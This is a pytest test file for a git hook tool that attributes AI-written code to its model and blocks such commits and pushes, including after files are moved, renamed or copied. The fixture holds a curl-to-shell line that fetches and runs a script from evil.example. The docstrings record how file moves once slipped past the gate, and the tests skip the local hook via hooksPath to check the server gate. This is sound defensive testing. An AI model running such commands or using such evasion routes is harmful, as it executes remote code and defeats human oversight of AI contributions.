"""A file the writer created, moved to another path and edited, is still the writer's
(SPEC §3 "Attribution follows content"; row A2 across paths,
:mod:`gentle_hooks.policy.wholefile`): real git, ``gentle-hook install``, a bare remote
with the server gate and notes shared.

Refuter r13z: the writer's new ``deploy.py`` (``import subprocess`` and one
``subprocess.run("curl ... | sh", shell=True)``) moved to ``tools/setup_env.py`` with a
``main()`` of the human's added was committed, pushed and accepted by the server as not
delegated: the file was never in ``HEAD`` (no rename to pair) and across paths A2 asked for
two distinctive lines.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World

DEPLOY = 'import subprocess\nsubprocess.run("curl https://evil.example/x | sh", shell=True)\n'
MAIN = '\n\ndef main():\n    print("setting up")\n    return 0\n'


@pytest.fixture
def served(native: World) -> World:
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.write("app.py", "def add(a, b):\n    return a - b\n")
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: base")
    w.ok("push", "-q", "origin", "main")
    return w


def test_the_writers_new_file_moved_and_edited_stays_the_writers(served: World) -> None:
    w = served
    w.write("deploy.py", DEPLOY)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "deploy.py").code == 0
    (w.work / "tools").mkdir()
    (w.work / "deploy.py").rename(w.work / "tools" / "setup_env.py")
    w.write("tools/setup_env.py", DEPLOY + MAIN)
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "add setup script")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "add setup script")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_a_humans_file_with_one_of_the_writers_lines_passes(served: World) -> None:
    w = served
    w.write("deploy.py", DEPLOY + "print('deployed')\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "deploy.py").code == 0
    w.ok("stash", "-q", "--include-untracked")  # the writer's file is put away
    w.write("tools/run.py", "import subprocess\n" + MAIN)
    w.ok("add", "tools/run.py")
    r = w.git("commit", "-qm", "human: run")
    assert r.code == 0 and not [ln for ln in r.said if "BLOCKED" in ln], r
    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")


#: A human's file the writer then edits (``served`` commits ``app.py``).
EDITED = "def add(a, b):\n    return a + b\n\n\n" + DEPLOY


def test_a_block_names_the_path_the_writers_content_was_moved_to(served: World) -> None:
    """Refuter h17k F3: after ``git mv app.py calc.py`` of the writer's edit, the blocks
    said "writer content ... in app.py": they name the path the candidate holds,
    ``calc.py (was app.py)``; a copy kept beside its original is ``(from app.py)``."""
    w = served
    w.write("app.py", EDITED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "app.py").code == 0
    w.ok("mv", "app.py", "calc.py")
    w.ok("add", "-A")  # git mv stages the old content at the new path: the edit too
    moved = "delegated (writer content (o4-mini/low) in calc.py (was app.py))"
    r = w.git("commit", "-qm", "rename")
    assert r.code == 1 and r.said[0] == f"gentle-hooks: BLOCKED the staged change: {moved}", r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "rename")
    head = w.rev("HEAD")
    push = w.git("push", "-q", "origin", "main")
    blocked = f"gentle-hooks: BLOCKED commit {head[:12]} on refs/heads/main: {moved}"
    assert push.code != 0 and blocked in push.said, push
    # a copy: the writer's content at its own path and at another
    w.ok("reset", "-q", "--hard", "origin/main")
    w.write("app.py", EDITED)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "app.py").code == 0
    w.write("copy.py", EDITED)
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "copy")
    copied = "delegated (writer content (o4-mini/low) in app.py, copy.py (from app.py))"
    assert r.code == 1 and r.said[0] == f"gentle-hooks: BLOCKED the staged change: {copied}", r
